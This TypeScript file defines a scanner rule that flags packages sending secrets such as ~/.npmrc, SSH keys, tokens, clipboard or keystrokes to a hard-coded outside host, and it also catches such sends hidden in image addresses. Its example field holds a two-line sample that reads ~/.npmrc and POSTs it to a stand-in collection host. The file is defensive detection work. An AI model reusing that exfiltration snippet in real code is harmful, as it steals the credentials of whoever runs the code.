import {
  belongsTo,
  isChatHook,
  isCollectionHost,
  isLocalHost,
  isMetadata,
  isPublicAddress,
} from "../hosts.ts";
import { HOME_FOLDER } from "../../program/paths.ts";
import type { Rule, Sighting } from "../rule.ts";
import type { LensView } from "../view.ts";
import { named, placeOf } from "../view.ts";
import type { Use } from "../../program/uses.ts";
import { hostOf } from "../../program/targets.ts";
import { type Flow, HOLE, textsOf, type Value } from "../../program/value.ts";

export const sendsSecrets: Rule = {
  id: "sends-secrets",
  title: "Sends secrets of this machine away",
  why:
    "Files such as ~/.npmrc or ~/.ssh, and variables named as tokens are, belong to whoever runs the " +
    "code. A tool sends a token to the service it is for; this sends it to an address that is fixed in the code and is another.",
  example:
    'const npmrc = fs.readFileSync(path.join(os.homedir(), ".npmrc"));\n' +
    'https.request("https://collect.invalid", { method: "POST" }).end(npmrc);',
  advice: "Do not install it. If it has run, revoke what the files and variables named here hold.",
  severity: "critical",
  confidence: "high",
  look: (view) => [...view.sends.flatMap((use) => sightingOf(use, view)), ...inPages(view)],
};

/** `new Image().src = address + data`: a request without a call. */
function inPages(view: LensView): readonly Sighting[] {
  return view.program.modules.flatMap((module) =>
    module.writes.flatMap(({ key, value: site, node }): readonly Sighting[] => {
      if (key !== "src") return [];
      const value = view.evaluator.evaluate(site);
      const flows = value.flows.filter(({ label }) => OWN_SECRETS.has(label));
      const host = textsOf(value)
        .map(hostOf)
        .find((each) => each !== undefined && !each.startsWith(HOLE) && !isLocalHost(each));
      if (flows.length === 0 || host === undefined) return [];
      const message = `What ${named(flows)} holds is sent to ${host} in the address of a picture or a script.`;
      return [{ place: { module, offset: node.start }, message }];
    }),
  );
}

function sightingOf(use: Use, view: LensView): readonly Sighting[] {
  const hosts = view.hostsOf(use);
  // Whoever has made such an address reads what arrives there, whatever service it belongs to.
  const isHook = view.addressesOf(use).some(isChatHook);
  const sendings = view
    .sendingsOf(use, "secret", "clipboard", "keyboard", "remote", "file")
    .filter(({ flow }) => OWN_SECRETS.has(flow.label) || isSecret(flow, view))
    .filter(({ flow, host }) => !isLocalHost(host) && (isHook || !hasOwnHost(flow, host, hosts)));
  const [first] = sendings;
  if (first === undefined) return [];
  const strangers = [...new Set(sendings.map(({ flow }) => flow))];
  const collects =
    isHook || sendings.some(({ host }) => isCollectionHost(host) || isPublicAddress(host));
  const isGrave = collects || strangers.some((flow) => !isVariable(flow));
  const isElsewhere = strangers.length > 2 || strangers.some(({ what }) => OWNED.test(what));
  // Coverage and deployment services ask for a CI's own token, when a person or a job runs their command.
  const elsewhere = view.isReachedFrom(use.module, "bin") ? "medium" : "high";
  const severity = isGrave ? "critical" : isElsewhere ? elsewhere : "low";
  const message = `What ${named(strangers)} holds is sent to ${first.host}.`;
  return [{ place: placeOf(use), message, severity, confidence: collects ? "high" : "medium" }];
}

const OWN_SECRETS: ReadonlySet<string> = new Set(["secret", "clipboard", "keyboard"]);

/** The keys of a cloud's machine, or whatever files are found in a home folder. */
function isSecret(flow: Flow, view: LensView): boolean {
  const [address] = view.useAt(flow)?.args ?? [];
  const texts = address === undefined ? [] : textsOf(address);
  if (flow.label === "remote") return texts.some(isMetadata);
  const lists = view
    .usesOf(flow.module)
    .some(({ path, args: [folder] }) => path === "fs.readdir" && isHome(folder));
  return lists && texts.some((text) => /^~\/?…$/.test(text));
}

function isHome(folder: Value | undefined): boolean {
  return folder !== undefined && textsOf(folder).includes(HOME_FOLDER);
}

/** Variables whose service everybody knows, so that another address is not theirs. */
const OWNED =
  /\.(?:NPM_TOKEN|NODE_AUTH_TOKEN|GITHUB_TOKEN|GH_TOKEN|AWS_\w+|ACTIONS_\w+|PYPI_TOKEN)$/;

/** One variable alone is mostly a service's own token under a name we do not know. */
function isVariable(flow: Flow): boolean {
  return flow.what.startsWith("process.env.");
}

/** A client of several services has the key of each for its own, though all go through one call. */
function hasOwnHost(flow: Flow, host: string, hosts: readonly string[]): boolean {
  if (belongsTo(flow.what, host)) return true;
  if (isCollectionHost(host) || isPublicAddress(host)) return false;
  return isVariable(flow) && hosts.some((other) => belongsTo(flow.what, other));
}
